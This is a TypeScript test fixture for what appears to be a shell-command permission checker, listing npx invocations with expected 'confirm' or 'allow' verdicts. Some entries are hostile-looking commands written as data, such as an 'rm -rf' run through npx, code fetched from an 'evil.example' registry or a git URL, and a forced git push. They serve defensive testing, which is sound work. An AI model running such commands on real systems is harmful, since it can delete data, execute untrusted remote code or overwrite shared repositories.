import type { Line } from '../split-line'

/** It runs programs, and downloads them first. */
export const LINES: readonly Line[] = [
  ['npx tsc', 'confirm', 'confirm'],
  ['npx tsc --noEmit', 'confirm', 'confirm'],
  ['npx --yes create-x', 'confirm', 'confirm'],
  ['npx -y cowsay hi', 'confirm', 'confirm'],
  ['npx eslint .', 'confirm', 'confirm'],
  ['npx vitest run', 'confirm', 'confirm'],
  ['npx -p a b', 'confirm', 'confirm'],
  ["npx -c 'rm -rf x'", 'confirm', 'confirm'],
  ['npx -c ls', 'confirm', 'confirm'],
  ['npx --package=a b', 'confirm', 'confirm'],
  ['npx git+https://example.org/x.git', 'confirm', 'confirm'],
  ['npx ./x', 'confirm', 'confirm'],
  ['npx --no-install tsc', 'confirm', 'allow'],
  ['npx --no tsc --noEmit', 'confirm', 'allow'],
  ['npx --no-install ../x', 'confirm', 'confirm'],
  ['npx --version', 'confirm', 'confirm'],
  ['npx --help', 'confirm', 'confirm'],
  ['npx', 'confirm', 'confirm'],
  ['npx --no', 'confirm', 'confirm'],
  ['echo ls | npx --no-install', 'confirm', 'confirm'],
  ['npx --no-such-option x', 'confirm', 'confirm'],
  ['npx --registry https://evil.example tsc', 'confirm', 'confirm'],
  ['npx --no-install rimraf x', 'confirm', 'confirm'],
  ['npx --no-install git push --force', 'confirm', 'confirm'],
]
